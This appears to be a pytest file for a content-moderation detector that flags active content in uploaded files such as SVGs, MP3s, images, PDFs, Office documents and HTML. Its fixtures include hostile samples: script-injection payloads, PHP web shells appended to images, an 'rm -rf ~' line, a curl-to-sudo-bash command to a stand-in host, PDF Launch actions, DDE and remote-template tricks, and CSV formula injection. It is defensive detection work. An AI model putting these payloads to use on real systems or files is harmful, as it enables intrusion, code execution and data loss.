"""The `active-content` detector, its rules, and the reading of drawings."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderation.content import ContentKind
from moderation.detectors.active_content import ActiveContent
from moderation.extract import Extract
from moderation.files.samples import (
    SVG_NAMESPACE,
    comment_tag,
    cover_tag,
    gif,
    jpeg,
    mp3,
    noise,
    png,
    svg,
    upload,
    wav,
    windows_program,
    zip_of,
)
from moderation.files.yara_rules import YaraRules
from moderation.signals import Signal, Unreadable
from tests.moderation.parameter_ids import by_size

DETECTOR = ActiveContent(Path(__file__).parents[2] / "policies" / "yara")

ELF = b"\x7fELF\2\1\1\0" + bytes(8) + b"\2\0\x3e\0" + bytes(44)
PDF = b"%%PDF-1.7\n1 0 obj<<%s>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
TEMPLATE = (
    b'<Relationship Type="http://schemas.openxmlformats.org/x/attachedTemplate" '
    b'Target="http://x.example/a.dotm" TargetMode="External"/>'
)
HYPERLINK = (
    b'<Relationship Type="http://schemas.openxmlformats.org/x/hyperlink" '
    b'Target="https://band.example" TargetMode="External"/>'
)

DDE = b'<w:instrText>DDE</w:instrText><w:r/><w:instrText xml:space="preserve">AUTO c:\\\\w'


def office(parts: dict[str, bytes] | None = None) -> bytes:
    """A Word document with these parts instead of or beside its own."""
    package = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    return zip_of(package | (parts or {}))


def related(relationship: bytes) -> bytes:
    """A Word document that refers to something."""
    relationships = b"<Relationships>" + relationship + b"</Relationships>"
    return office({"word/_rels/settings.xml.rels": relationships})


def detect(data: bytes, name: str, kind: ContentKind = ContentKind.FILE) -> list[Signal]:
    return list(DETECTOR.detect(Extract(upload(data, name, kind=kind))))


def score(data: bytes, name: str) -> float:
    return max((signal.score for signal in detect(data, name)), default=0.0)


@pytest.mark.parametrize(
    ("body", "at_least"),
    [
        ("<script>alert(1)</script>", 0.95),
        ("<SCRIPT href='x.js'/>", 0.95),
        (f"<s:script xmlns:s='{SVG_NAMESPACE[7:-1]}'>x</s:script>", 0.95),
        ('<rect onclick="x()"/>', 0.95),
        ('<rect OnLoad = "x()"/>', 0.95),
        ('<a href="javascript:x()"><text>hi</text></a>', 0.95),
        ('<a href="java&#10;script:x()"/>', 0.95),
        ('<a xlink:href=" JaVaScRiPt:x()"/>', 0.95),
        ('<a href="data:text/html,&lt;script>x()&lt;/script>"/>', 0.95),
        ('<set attributeName="onmouseover" to="x()"/>', 0.95),
        ('<animate attributeName="href" values="javascript:x()"/>', 0.95),
        ('<iframe src="//x.example"/>', 0.95),
        ('<use href="data:image/svg+xml;base64,PHN2Zz4="/>', 0.8),
        ('<rect style="background: url(javascript:x())"/>', 0.8),
        ("<foreignObject><b>a page</b></foreignObject>", 0.6),
    ],
)
def test_drawings_that_do_more_than_being_drawn(body: str, at_least: float) -> None:
    assert score(svg(body), "logo.svg") >= at_least


@pytest.mark.parametrize(
    "drawing",
    [
        svg(),
        svg('<a href="https://band.example"><text>our site</text></a>'),
        svg("<title>on stage</title><style>.a{fill:red}</style><text>javascript for cats</text>"),
        svg('<image href="data:image/png;base64,iVBORw0KGgo="/>'),
        svg('<set attributeName="fill" to="red"/>'),
        b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + svg(),
    ],
    ids=by_size,
)
def test_drawings_that_are_only_drawn(drawing: bytes) -> None:
    assert detect(drawing, "logo.svg") == []


def test_a_drawing_with_entities_goes_to_a_person() -> None:
    entities = b'<!DOCTYPE svg [<!ENTITY a "script">]>' + svg("<text>&a;</text>")
    assert score(entities, "logo.svg") == 0.6


def test_a_broken_drawing_is_unreadable_unless_it_shows_what_it_is() -> None:
    with pytest.raises(Unreadable):
        detect(svg()[:-3], "logo.svg")
    assert score(svg("<script>x()")[:-6], "logo.svg") >= 0.95


@pytest.mark.parametrize(
    ("data", "name", "at_least"),
    [
        # behind or within a media file that still plays or shows
        (mp3() + windows_program(), "song.mp3", 0.95),
        (png() + ELF, "cover.png", 0.95),
        (jpeg() + zip_of({"a": b"b"}), "cover.jpg", 0.9),
        (gif() + b"Rar!\x1a\7\1\0" + noise(60), "cover.gif", 0.9),
        (wav() + b"7z\xbc\xaf'\x1c\0\4" + noise(60), "stem.wav", 0.9),
        (png() + b"<script>alert(1)</script>", "cover.png", 0.95),
        (jpeg() + b"<?php eval($_POST['x']); ?>", "cover.jpg", 0.95),
        (mp3(tag=comment_tag("<ScRiPt src=//x.example></sCrIpT>")), "song.mp3", 0.9),
        (mp3(tag=comment_tag('<img src=x onerror="x()">')), "song.mp3", 0.8),
        (mp3() + b"\n#!/bin/sh\nrm -rf ~\n", "song.mp3", 0.95),
        (gif() + b"powershell.exe -NoP -Enc SQBFAFgA", "cover.gif", 0.95),
        (jpeg() + PDF % b"/Type/Catalog", "cover.jpg", 0.9),
        # headers that are code
        (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;", "cover.gif", 0.95),
        (b"GIF89a=1;alert(1)//" + bytes(20), "cover.gif", 0.95),
        (b"\xff\xd8\xff\xe0/*JFIF" + bytes(12070) + jpeg()[20:], "cover.jpg", 0.95),
        # pages
        (b"<!DOCTYPE html><html><script>x()</script></html>", "bio.html", 0.9),
        (b"<html><body onload=x()>", "bio.html", 0.9),
        (b"<html><a href='javascript:x()'>", "bio.html", 0.9),
        (b"<html><iframe src='//x.example'></iframe>", "bio.html", 0.7),
        (b"<html><body>" + PDF % b"/Type/Catalog", "bio.html", 0.9),
        # documents
        (PDF % b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "kit.pdf", 0.95),
        (PDF % b"/A<</S/Launch/F(cmd.exe)>>", "kit.pdf", 0.95),
        (PDF % b"/Names<</S/JavaScript/JS 4 0 R>>", "kit.pdf", 0.8),
        (PDF % b"/S/J#61vaScript/JS(x)", "kit.pdf", 0.8),
        (PDF % b"/Names<</EmbeddedFiles 2 0 R>>", "kit.pdf", 0.6),
        (office({"word/vbaProject.bin": noise(40)}), "rider.docm", 0.9),
        (related(TEMPLATE), "rider.docx", 0.9),
        (office({"word/document.xml": DDE + b"</w:instrText>"}), "rider.docx", 0.95),
        (OLE + "_VBA_PROJECT".encode("utf-16-le"), "rider.doc", 0.9),
        (OLE + b"AutoOpen CreateObject(WScript.Shell)", "rider.doc", 0.95),
        (b"{\\rtf1{\\object\\objautlink{\\*\\objdata 01050000}}}", "rider.rtf", 0.9),
        # what runs when opened
        (windows_program(), "setup.exe", 0.7),
        (ELF, "tool", 0.7),
        (b"#!/bin/sh\necho hi\n", "install.sh", 0.7),
        (b"alert(1)", "player.js", 0.7),
        (b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60), "song.lnk", 0.95),
        (b"[Desktop Entry]\nType=Application\nExec=sh -c id\n", "song.desktop", 0.95),
        (b"[autorun]\r\nopen=setup.exe\r\n", "autorun.inf", 0.7),
        (b"run this:\ncurl -s https://x.example/i | sudo bash\n", "readme.txt", 0.7),
        (b"=cmd|' /C calc'!A0,\"x\"\n", "royalties.csv", 0.95),
    ],
    ids=by_size,
)
def test_files_that_run_something(data: bytes, name: str, at_least: float) -> None:
    assert score(data, name) >= at_least


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (mp3(), "song.mp3"),
        (mp3(tag=cover_tag(png(60, 60)) + comment_tag("a very long comment. " * 900)), "song.mp3"),
        (mp3(tag=comment_tag('visit <a href="https://band.example">us</a>')), "song.mp3"),
        (wav(20_000), "stem.wav"),
        (png(200, 200), "cover.png"),
        (jpeg(), "cover.jpg"),
        (gif(), "cover.gif"),
        (zip_of({"drums.wav": wav(9000), "bass.wav": wav(9000)}, deflated=False), "stems.zip"),
        (zip_of({"kit.pdf": PDF % b"/Type/Catalog", "a.png": png()}, deflated=False), "kit.zip"),
        (PDF % b"/Type/Catalog", "kit.pdf"),
        (office(), "rider.docx"),
        (related(HYPERLINK), "rider.docx"),
        (office({"word/document.xml": b"<w:instrText>PAGE</w:instrText>"}), "rider.docx"),
        (OLE, "rider.doc"),
        (b"{\\rtf1\\ansi two towels}", "rider.rtf"),
        (b"<html><body><h1>Tour</h1><p>Onload the van</p></body></html>", "tour.html"),
        (b"<?xml version='1.0'?><score-partwise/>", "score.musicxml"),
        (b"[00:12.00]curl up with me\n[00:17.20]powershell heart\n", "lyrics.lrc"),
        (b"isrc,title\nUSRC17607839,=One more time\n", "royalties.csv"),
        (noise(300_000), "preset.fxp"),
        (noise(300_000), "song.mp3"),
        (b"", "nothing.mp3"),
    ],
    ids=by_size,
)
def test_files_as_musicians_send_them(data: bytes, name: str) -> None:
    assert detect(data, name) == []


def test_an_ordinary_opening_action_is_only_a_hint() -> None:
    assert score(PDF % b"/OpenAction[3 0 R/FitH null]", "score.pdf") == 0.3


def test_evidence_says_what_and_where() -> None:
    data = png() + b"<?php system($_GET['c']); ?>"
    evidence = detect(data, "cover.png")[0].evidence[0]
    assert evidence.field == "file"
    assert data[evidence.start : evidence.end] == b"<?php "
    assert evidence.excerpt == "a script in a media file: <?php "


def test_large_files_are_scanned_in_windows(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("moderation.files.yara_rules.WINDOW", 4096)
    monkeypatch.setattr("moderation.files.yara_rules.OVERLAP", 256)
    data = mp3(60) + windows_program() + mp3(60)
    evidence = detect(data, "song.mp3")[0].evidence[0]
    assert evidence.start == data.index(b"PE\0\0")


def test_a_rule_that_says_nothing_is_refused(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text("rule bad { meta: score = 0.5 condition: true }")
    with pytest.raises(ValueError, match="bad"):
        YaraRules(tmp_path, {})


def test_the_version_changes_with_the_rules(tmp_path: Path) -> None:
    rule = 'rule a { meta: score = 0.5 says = "a" condition: true }'
    (tmp_path / "a.yar").write_text(rule)
    before = ActiveContent(tmp_path).version
    (tmp_path / "a.yar").write_text(rule.replace("0.5", "0.6"))
    assert ActiveContent(tmp_path).version != before


@given(st.binary(max_size=400), st.sampled_from(["a.svg", "a.mp3", "a.pdf", "a.docx", "a.html"]))
def test_no_file_makes_it_fail(data: bytes, name: str) -> None:
    starts = {"a.svg": b"<svg>", "a.pdf": b"%PDF-1.4\n", "a.docx": b"PK\3\4", "a.html": b"<html>"}
    whole = starts.get(name, b"") + data
    try:
        signals = detect(whole, name)
    except Unreadable:
        return
    for signal in signals:
        for evidence in signal.evidence:
            assert evidence.start is None or 0 <= evidence.start < (evidence.end or 0) <= len(whole)


@given(st.integers(0, 900), st.binary(min_size=1, max_size=8))
def test_no_broken_document_makes_it_fail(at: int, junk: bytes) -> None:
    whole = related(TEMPLATE)
    detect(whole[:at] + junk + whole[at + len(junk) :], "rider.docx")
